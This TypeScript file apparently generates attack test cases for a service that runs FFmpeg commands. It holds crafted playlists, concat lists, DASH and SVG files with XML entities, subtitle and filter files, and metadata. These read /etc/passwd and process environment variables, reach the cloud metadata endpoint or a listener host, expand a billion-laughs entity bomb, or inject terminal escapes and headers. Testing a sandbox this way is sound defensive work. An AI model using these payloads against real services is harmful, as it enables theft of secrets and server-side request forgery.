import {
  assetMap,
  concatList,
  entityOf,
  playlist,
  readPlaylist,
  session,
  svg,
} from '../crafted-files.ts'
import type { AttackAddresses, AttackSubmission } from './attack-submission.ts'

/** Files that lead FFmpeg elsewhere: the command line is harmless, and the service accepts it. */
export function contentAttacks({ listener, own }: AttackAddresses): AttackSubmission[] {
  const targets = [
    'file:///etc/passwd',
    '/etc/passwd',
    '../../etc/passwd',
    '/proc/self/environ',
    `http://${listener}/a.ts`,
    'http://169.254.169.254/latest/meta-data/iam/',
    ...own,
  ]
  const packets = '-map 0 -c copy -f data {{out_1}}'
  const bySegment = (name: string, segment: string, ...tags: string[]): AttackSubmission =>
    byFile(name, `${readPlaylist} -i {{in_1}} ${packets}`, {
      'list.m3u8': playlist(...tags, '#EXTINF:9,', segment),
    })
  const read = `-i {{in_1}} ${packets}`
  const convert = '-i {{in_1}} {{out_1}}'
  return [
    ...targets.map((target) => bySegment(`playlist that names ${target}`, target)),
    ...targets.map((target) =>
      byFile(`list that names ${target}`, `-f concat -safe 0 ${read}`, {
        'list.txt': concatList(target),
      }),
    ),
    bySegment('key of a playlist', 'in.mp4', '#EXT-X-KEY:METHOD=AES-128,URI="file:///etc/passwd"'),
    bySegment('initialisation of a playlist', '/proc/self/environ', '#EXT-X-MAP:URI="/etc/passwd"'),
    byFile('playlist under a film’s name', convert, {
      'film.mp4': playlist('#EXTINF:9,', 'concat:file:///etc/passwd|file:///etc/hosts'),
    }),
    byFile('playlist in an AVI with a list of GAB2', convert, {
      'film.avi': `RIFF\u0010\u0000\u0000\u0000AVI LIST${playlist('#EXTINF:9,', 'file:///etc/passwd')}`,
    }),
    byFile('manifest with an entity', read, {
      'a.mpd': `<?xml version="1.0"?>${entityOf('/etc/passwd')}<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT3S"><Period><AdaptationSet mimeType="audio/mp4"><Representation id="0" bandwidth="1"><BaseURL>&e;</BaseURL></Representation></AdaptationSet></Period></MPD>`,
    }),
    byFile('manifest with a billion laughs', read, {
      'a.mpd': `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">${'bcdefghij'.replaceAll(/./g, (name, at: number) => `<!ENTITY ${name} "${`&${'abcdefghij'[at] ?? 'a'};`.repeat(10)}">`)}]><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><Period><AdaptationSet><Representation id="0" bandwidth="1"><BaseURL>&j;</BaseURL></Representation></AdaptationSet></Period></MPD>`,
    }),
    inArchive(
      'composition that names files',
      '-f imf -assetmaps assetmap.xml -i cpl.xml -f null - -i in.mp4 -c copy a.mkv',
      { 'assetmap.xml': assetMap('file:///etc/passwd'), 'cpl.xml': '<CompositionPlaylist/>' },
    ),
    byFile('drawing with a text of a file', '-i {{in_1}} -frames:v 1 {{out_1}}', {
      'a.svg': `${entityOf('/etc/passwd')}${svg('<text y="9">&e;</text>')}`,
    }),
    inArchive(
      'commands to a filter that read a file',
      '-i in.mp4 -vf "sendcmd=f=commands.txt,drawtext=textfile=in.txt" -frames:v 1 a.png',
      { 'commands.txt': '0.0 drawtext reinit textfile=/etc/passwd;\n', 'in.txt': 'x' },
    ),
    byFile('session on the network', '-i {{in_1}} -t 1 {{out_1}}', { 'a.sdp': session('5004') }),
    inArchive('subtitles that are a list', '-i in.mp4 -vf subtitles=a.srt -c:a copy a.mkv', {
      'a.srt': concatList(`http://${listener}/s.srt`),
    }),
    inArchive('fonts by a path in subtitles', '-i in.mp4 -vf ass=a.ass -frames:v 1 a.png', {
      'a.ass':
        '[Script Info]\nScriptType: v4.00+\n[V4+ Styles]\nFormat: Name, Fontname, Fontsize\nStyle: Default,/etc/passwd,20\n[Fonts]\nfontname: ../../etc/passwd\n[Events]\nFormat: Layer, Start, End, Style, Name, MarginL, MarginR, MarginV, Effect, Text\nDialogue: 0,0:00:00.00,0:00:02.00,Default,,0,0,0,,{\\fn/etc/passwd}x\n',
    }),
    inArchive(
      'tags that turn a terminal and a header',
      '-i in.mp4 -i tags.txt -map_metadata 1 -c copy a.mkv',
      { 'tags.txt': ';FFMETADATA1\ntitle=\u001b]0;x\u0007\\\nX-Injected: yes\n' },
    ),
    byFile('script of a frame server', convert, { 'a.avs': 'DirectShowSource("/etc/passwd")\n' }),
  ]
}

type Files = AttackSubmission['files']

function byFile(name: string, command: string, files: Files): AttackSubmission {
  return { name, command, form: 'files', files }
}

function inArchive(name: string, command: string, files: Files): AttackSubmission {
  return { name, command, form: 'zip', files }
}
